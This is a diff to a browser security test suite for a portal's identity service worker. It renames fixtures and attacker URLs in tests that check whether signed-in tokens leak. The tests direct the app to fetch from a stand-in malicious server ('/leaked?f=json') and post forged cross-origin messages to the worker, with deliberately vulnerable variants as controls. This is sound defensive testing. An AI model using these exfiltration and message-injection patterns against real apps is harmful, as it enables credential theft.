@@ -1,4 +1,4 @@
-/** Who may say what is signed, and which scripts may run beside it. */
+/** Attempts to change what is signed, and scripts beside the worker: foreign, injected, or the ready worker with other attributes. */
 import { readFileSync } from 'node:fs';
 import { expect, registeredWith, signedIn, test, type TestApp } from '../support/attack.js';
 import { aCount, countQuery } from '../support/services.js';
@@ -7,8 +7,8 @@ import { anyOrigin } from '../support/malicious-server.js';
 test(
   'a page’s message cannot make another server the portal’s own',
   { tag: ['@S6'] },
-  async ({ app, naive, liar, portal }) => {
-    const evil = await liar({
+  async ({ app, vulnerableApp, maliciousServer, portal }) => {
+    const evil = await maliciousServer({
       answer: (_, response) => {
         response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
         return true;
@@ -31,15 +31,15 @@ test(
         port1.close();
         await fetch('/signed-in.html');
       }, evil.origin);
-      await target.fetch(`${evil.origin}/loot?f=json`);
+      await target.fetch(`${evil.origin}/leaked?f=json`);
       await target.loadImage(`${evil.origin}/rest/services/x/MapServer/tile/0/0/0`);
     };
-    await attack(await naive({ does: 'configurable' }));
+    await attack(await vulnerableApp({ does: 'configurable' }));
     expect(evil.secrets(), 'control').not.toEqual([]);
-    const before = evil.heard.length;
+    const before = evil.received.length;
     await signedIn(app);
     await attack(app);
-    const since = evil.heard
+    const since = evil.received
       .slice(before)
       .map(({ url, headers, body }) => `${url.href} ${JSON.stringify(headers)} ${body}`);
     expect(since.length).toBeGreaterThan(0);
@@ -50,8 +50,8 @@ test(
 test(
   'the ready worker cannot be registered with other attributes where the server names its workers',
   { tag: ['@S6'] },
-  async ({ variant, liar, portal }) => {
-    const evil = await liar({
+  async ({ variant, maliciousServer, portal }) => {
+    const evil = await maliciousServer({
       answer: (_, response) => {
         response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
         return true;
@@ -77,7 +77,7 @@ test(
           () => false,
         ),
       );
-      await target.fetch(`${evil.origin}/loot?f=json`);
+      await target.fetch(`${evil.origin}/leaked?f=json`);
       return isIn;
     };
     const lenient = await signedIn(await variant({}));
@@ -86,7 +86,7 @@ test(
     expect(evil.secrets()).toEqual([]);
     // Control: it gets those of the next sign-in.
     await lenient.signIn('ana');
-    await lenient.fetch(`${evil.origin}/loot?f=json`);
+    await lenient.fetch(`${evil.origin}/leaked?f=json`);
     expect(evil.secrets()).not.toEqual([]);
     const ours = await signedIn(await variant({ options: { persistence: 'sealed' }, isSealed: true }));
     expect(await attack(ours)).toBe(false);
@@ -98,8 +98,8 @@ test(
 test(
   'a registration that owns more does not get the old tokens',
   { tag: ['@S6'] },
-  async ({ variant, liar, portal }) => {
-    const evil = await liar({
+  async ({ variant, maliciousServer, portal }) => {
+    const evil = await maliciousServer({
       answer: (_, response) => {
         response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
         return true;
@@ -127,7 +127,7 @@ test(
     });
     await ours.open();
     await ours.handleChallengesInApp();
-    await ours.fetch(`${evil.origin}/loot?f=json`);
+    await ours.fetch(`${evil.origin}/leaked?f=json`);
     expect(await ours.run(() => window.identity.credentials)).toEqual([]);
     expect(evil.secrets()).toEqual([]);
     // Control: with a sign-in of its own the new registration does own that server.
@@ -135,7 +135,7 @@ test(
     await ours.page.reload();
     await ours.ready();
     await ours.signIn('ana');
-    await ours.fetch(`${evil.origin}/loot?f=json`);
+    await ours.fetch(`${evil.origin}/leaked?f=json`);
     expect(evil.secrets()).not.toEqual([]);
   },
 );
@@ -177,7 +177,17 @@ const inject = (target: TestApp): Promise<string> =>
         // The policy said no.
       }
     }
-    for (let frame = 0; frame < 30; frame += 1) await new Promise(requestAnimationFrame);
+    // What was let in has run when it has loaded, and timers run in their order.
+    const loading = document.querySelectorAll('img, iframe');
+    await Promise.all(
+      [...loading].map(
+        (element) =>
+          new Promise((resolve) => {
+            for (const type of ['load', 'error']) element.addEventListener(type, resolve);
+          }),
+      ),
+    );
+    await new Promise((resolve) => setTimeout(resolve));
     return ran.sort().join();
   });
 
@@ -200,16 +210,16 @@ test(
 );
 
 test(
-  'a page of another origin that holds the app’s window cannot speak to its worker',
+  'a page of another origin that holds the app’s window cannot sendMessages to its worker',
   { tag: ['@S8'] },
-  async ({ app, naive, portal }) => {
+  async ({ app, vulnerableApp, portal }) => {
     /** Opens the app from a foreign page and says to its window whatever a page could say to the worker. */
     const attack = async (target: TestApp): Promise<string> => {
       const foreign = await target.page.context().newPage();
       await foreign.goto(`${portal.foreign.origin}/`);
       return foreign.evaluate(async (url) => {
-        const heard: string[] = [];
-        addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
+        const received: string[] = [];
+        addEventListener('message', ({ data }) => received.push(JSON.stringify(data)));
         const frame = document.createElement('iframe');
         frame.src = url;
         document.body.append(frame);
@@ -231,19 +241,19 @@ test(
             { type: 'identity:claim', version: 1 },
           ]) {
             const { port1, port2 } = new MessageChannel();
-            port1.addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
+            port1.addEventListener('message', ({ data }) => received.push(JSON.stringify(data)));
             port1.start();
             held?.postMessage(message, '*', [port2]);
           }
         for (let turn = 0; turn < 60; turn += 1) await new Promise(requestAnimationFrame);
-        return heard.join('\n');
+        return received.join('\n');
       }, `${target.url}/`);
     };
     await signedIn(app);
     expect(portal.log.leaks(await attack(app))).toEqual([]);
     // Control: the same words, said by a page of the app itself, are heard by a worker that tells.
-    const credulous = await naive({ does: 'tells' });
-    const told = await credulous.run(
+    const vulnerable = await vulnerableApp({ does: 'tells' });
+    const told = await vulnerable.run(
       () =>
         new Promise<string>((resolve) => {
           const { port1, port2 } = new MessageChannel();
